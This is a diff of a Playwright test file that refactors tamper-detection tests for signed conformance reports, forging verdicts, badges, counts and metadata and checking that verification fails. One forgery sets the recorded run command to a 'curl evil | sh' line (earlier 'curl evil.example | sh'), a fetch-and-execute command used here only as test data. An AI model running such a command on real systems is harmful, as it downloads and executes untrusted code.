@@ -4,7 +4,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { expect } from '@playwright/test';
 import type { ConformanceReport } from '../../../fixtures/report/model/report.ts';
-import { PAGE_NAMES, RECORDING_FILE, REPORT, seal } from '../../../fixtures/report/out/files.ts';
+import { PAGE_NAMES, RECORDING_FILE, REPORT, seal as sealReport } from '../../../fixtures/report/out/files.ts';
 import { checkClaim, describeFolder, readClaim } from '../../../fixtures/report/run/claim.ts';
 import { readRecording } from '../../../fixtures/target/recording/read.ts';
 import { computeDigest } from '../../../fixtures/target/recording/recorded.ts';
@@ -65,7 +65,7 @@ function sealAgain(folder: string): void {
   const report = JSON.parse(read(REPORT)) as ConformanceReport;
   const files = PAGE_NAMES.map((name) => [name, computeDigest(read(name))] as const);
   const recording = { ...report.recording, digest: computeDigest(read(RECORDING_FILE)) };
-  writeFileSync(join(folder, REPORT), JSON.stringify(seal({ ...report, recording }, Object.fromEntries(files))));
+  writeFileSync(join(folder, REPORT), JSON.stringify(sealReport({ ...report, recording }, Object.fromEntries(files))));
 }
 
 for (const name of ['reference', 'defect-key-repeated', 'fastapi'])
@@ -78,107 +78,105 @@ for (const name of ['reference', 'defect-key-repeated', 'fastapi'])
     rmSync(made.folder, { recursive: true });
   });
 
-/** `isSealed`: found although every digest was computed again. */
-const FORGERIES: { title: string; file: string; edit: Edit; message: RegExp; isSealed: boolean }[] = [
-  ...(
-    [
-      ['a verdict in the page', 'index.html', (text) => text.replace('Violates', 'Conforms')],
-      ['a script in the page', 'index.html', (text) => text.replace('</body>', '<script src="x"></script></body>')],
-      ['the badge', 'badge.json', (text) => text.replace(/"message": "[^"]*"/, '"message": "conforms to 1.0.0"')],
-      ['the colour of the badge', 'badge.json', (text) => text.replace('"red"', '"brightgreen"')],
-      ['the summary', 'summary.md', (text) => text.replace('❌', '✅')],
-      ['a count of junit.xml', 'junit.xml', (text) => text.replace(/failures="\d+"/, 'failures="0"')],
-      ['a byte at the end of junit.xml', 'junit.xml', (text) => `${text} `],
-    ] as const satisfies [string, string, Edit][]
-  ).map(([title, file, edit]) => ({
-    ...{ title, file, edit, isSealed: true },
-    message: new RegExp(`^${file.replace('.', '\\.')} was changed, or differs \\(.*\\): it has ".*", and ".*" follows`),
-  })),
-  ...(
-    [
-      ['the verdict', () => ({ verdict: 'conforms' }), /^the verdict: conforms in the report, violates by/],
-      ['the sentence', () => ({ sentence: 'conforms: all hold' }), /^sentence: the report does not follow/],
-      ['a count', ({ counts }) => ({ counts: { ...counts, failed: 0 } }), /^counts: the report does not follow/],
-      ['the requests', ({ requests }) => ({ requests: { ...requests, sent: 1 } }), /^requests: the report/],
-      [
-        'the waited seconds',
-        ({ requests }) => ({ requests: { ...requests, waitedSeconds: 999 } }),
-        /^requests: the report does not follow/,
-      ],
-      ['the target', () => ({ target: 'https://shop.example/v1' }), /^the target: "https:\/\/shop.example\/v1" in the/],
-      ['the implementation', () => ({ implementation: 'Otter 2' }), /^implementation: the report does not follow/],
-      ['startedAt', () => ({ startedAt: '2020-01-01T00:00:00.000Z' }), /^startedAt: "2020-01-01T00:00:00.000Z" in/],
-      ['a duration shorter than the run', () => ({ durationMs: 1 }), /^durationMs: 1 in the report, and by the rec/],
-      ['the suite version', ({ suite }) => ({ suite: { ...suite, version: '9.9.9' } }), /^the suite version: "9.9.9"/],
-      [
-        'the contract',
-        ({ contract }) => ({ contract: { ...contract, digest: `sha256:${'0'.repeat(64)}` } }),
-        /^contract: judged by another contract/,
-      ],
-      ['the id of the run', ({ run }) => ({ run: { ...run, id: 'abc123' } }), /^the id of the run: "abc123" in the/],
-      [
-        'the settings',
-        ({ run }) => ({ run: { ...run, settings: [['DEPTH', 'thorough']] } }),
-        /^the settings: \[\["DEP/,
-      ],
-      [
-        'the command',
-        ({ run }) => ({ run: { ...run, command: 'curl evil.example | sh;' } }),
-        /^the command: "curl evil/,
-      ],
-      [
-        'the time of the recording',
-        ({ recording }) => ({ recording: { ...recording, judgedFrom: '2020-01-01T00:00:00.000Z' } }),
-        /^when it was recorded: /,
-      ],
-      ['a member of another name', () => ({ certified: true }), /^certified: the report does not follow/],
-    ] as const satisfies [string, (report: ConformanceReport) => object, RegExp][]
-  ).map(([title, change, message]) => ({ title, file: REPORT, edit: setMember(change), message, isSealed: true })),
-  {
-    ...{ title: 'a comment in the recording', file: RECORDING_FILE, isSealed: true },
-    edit: (text) => text.replace('"statusText":""', '"statusText":"OK"'),
-    message: /^exchanges\.har (was changed|has more or other content)/,
-  },
-  ...(
-    [
-      ['a longer duration', ({ durationMs }) => ({ durationMs: durationMs + 60_000 })],
-      ['the commit of the suite', ({ suite }) => ({ suite: { ...suite, commit: '0123456789ab' } })],
-      ['the version of Node.js', ({ run }) => ({ run: { ...run, node: '99.0.0' } })],
-      [
-        'the time of a test',
-        ({ requirements }) => ({
-          requirements: requirements.map((each) => ({
-            ...each,
-            cases: each.cases.map((own) => ({ ...own, ms: 1234 })),
-          })),
-        }),
-      ],
-    ] as const satisfies [string, (report: ConformanceReport) => object][]
-  ).map(([title, change]) => ({
-    ...{ title, file: REPORT, edit: setMember(change), isSealed: false },
-    message: /^conformance\.json was changed: its digest is that of another content/,
-  })),
-  {
-    ...{
-      title: 'no digest of the claim',
-      file: REPORT,
-      isSealed: false,
-      edit: setMember(() => ({ claim: undefined })),
-    },
-    message: /^conformance\.json has no digest of the claim/,
-  },
+type Forgery = [title: string, file: string, edit: Edit, message: RegExp];
+
+const ofPage = (title: string, file: string, edit: Edit): Forgery => {
+  const start = `^${file.replace('.', '\\.')} was changed, or differs \\(.*\\)`;
+  return [title, file, edit, new RegExp(`${start}: it has ".*", and ".*" follows`)];
+};
+const ofReport = (title: string, change: (report: ConformanceReport) => object, message: RegExp): Forgery => [
+  title,
+  REPORT,
+  setMember(change),
+  message,
 ];
 
-for (const { title, file, edit, message, isSealed } of FORGERIES)
-  test(`another ${title} does not verify`, ({ heron, directory }) => {
-    const folder = join(directory, 'forged');
-    cpSync(heron.folder, folder, { recursive: true });
-    editFile(folder, file, edit);
-    expect(verify({ ...heron, folder })).toContainEqual(expect.stringMatching(message));
-    if (!isSealed) return;
-    sealAgain(folder);
-    expect(verify({ ...heron, folder })).toContainEqual(expect.stringMatching(message));
-  });
+/** Found although every digest was computed again: it does not follow from the recording. */
+const FORGERIES: readonly Forgery[] = [
+  ofPage('a verdict in the page', 'index.html', (text) => text.replace('Violates', 'Conforms')),
+  ofPage('a script in the page', 'index.html', (text) => text.replace('</body>', '<script src="x"></script></body>')),
+  ofPage('the badge', 'badge.json', (text) => text.replace(/"message": "[^"]*"/, '"message": "conforms to 1.0.0"')),
+  ofPage('the summary', 'summary.md', (text) => text.replace('❌', '✅')),
+  ofPage('a byte at the end of junit.xml', 'junit.xml', (text) => `${text} `),
+  ofReport('the verdict', () => ({ verdict: 'conforms' }), /^the verdict: conforms in the report, violates by/),
+  ofReport('a count', ({ counts }) => ({ counts: { ...counts, failed: 0 } }), /^counts: the report does not follow/),
+  ofReport(
+    'the waited seconds',
+    ({ requests }) => ({ requests: { ...requests, waitedSeconds: 999 } }),
+    /^requests: the report does not follow/,
+  ),
+  ofReport('the target', () => ({ target: 'https://shop.example/v1' }), /^the target: "https:\/\/shop.example\/v1" in/),
+  ofReport('the implementation', () => ({ implementation: 'Otter 2' }), /^implementation: the report does not follow/),
+  ofReport('startedAt', () => ({ startedAt: '2020-01-01T00:00:00.000Z' }), /^startedAt: "2020-01-01T00:00:00.000Z" in/),
+  ofReport(
+    'a duration shorter than the run',
+    () => ({ durationMs: 1 }),
+    /^durationMs: 1 in the report, and by the rec/,
+  ),
+  ofReport(
+    'the suite version',
+    ({ suite }) => ({ suite: { ...suite, version: '9.9.9' } }),
+    /^the suite version: "9.9.9"/,
+  ),
+  ofReport(
+    'the contract',
+    ({ contract }) => ({ contract: { ...contract, digest: `sha256:${'0'.repeat(64)}` } }),
+    /^contract: judged by another contract/,
+  ),
+  ofReport(
+    'the id of the run',
+    ({ run }) => ({ run: { ...run, id: 'abc123' } }),
+    /^the id of the run: "abc123" in the/,
+  ),
+  ofReport(
+    'the settings',
+    ({ run }) => ({ run: { ...run, settings: [['DEPTH', 'thorough']] } }),
+    /^the settings: \[\["DEP/,
+  ),
+  ofReport('the command', ({ run }) => ({ run: { ...run, command: 'curl evil | sh;' } }), /^the command: "curl evil/),
+  ofReport(
+    'the time of the recording',
+    ({ recording }) => ({ recording: { ...recording, judgedFrom: '2020-01-01T00:00:00.000Z' } }),
+    /^when it was recorded: /,
+  ),
+  ofReport('a member of another name', () => ({ certified: true }), /^certified: the report does not follow/),
+  [
+    'a comment in the recording',
+    RECORDING_FILE,
+    (text) => text.replace('"statusText":""', '"statusText":"OK"'),
+    /^exchanges\.har (was changed|has more or other content)/,
+  ],
+];
+
+const CHANGED = /^conformance\.json was changed: its digest is that of another content/;
+
+/** Found by a digest: nothing of it follows from the recording. */
+const BY_DIGEST: readonly Forgery[] = [
+  ofReport('longer duration', ({ durationMs }) => ({ durationMs: durationMs + 60_000 }), CHANGED),
+  ofReport('commit of the suite', ({ suite }) => ({ suite: { ...suite, commit: '0123456789ab' } }), CHANGED),
+  ofReport('version of Node.js', ({ run }) => ({ run: { ...run, node: '99.0.0' } }), CHANGED),
+  ofReport(
+    'time of a test',
+    ({ requirements }) => ({
+      requirements: requirements.map((each) => ({ ...each, cases: each.cases.map((own) => ({ ...own, ms: 1234 })) })),
+    }),
+    CHANGED,
+  ),
+  ofReport('digest of the claim', () => ({ claim: undefined }), /^conformance\.json has no digest of the claim/),
+];
+
+for (const [forgeries, seal] of [
+  [FORGERIES, sealAgain],
+  [BY_DIGEST, () => {}],
+] as const)
+  for (const [title, file, edit, message] of forgeries)
+    test(`another ${title} does not verify`, ({ heron, directory }) => {
+      const folder = join(directory, 'forged');
+      cpSync(heron.folder, folder, { recursive: true });
+      editFile(folder, file, edit);
+      seal(folder);
+      expect(verify({ ...heron, folder })).toContainEqual(expect.stringMatching(message));
+    });
 
 test('line ends that git changed are named, and nothing else differs', ({ heron, directory }) => {
   const folder = join(directory, 'checkout');
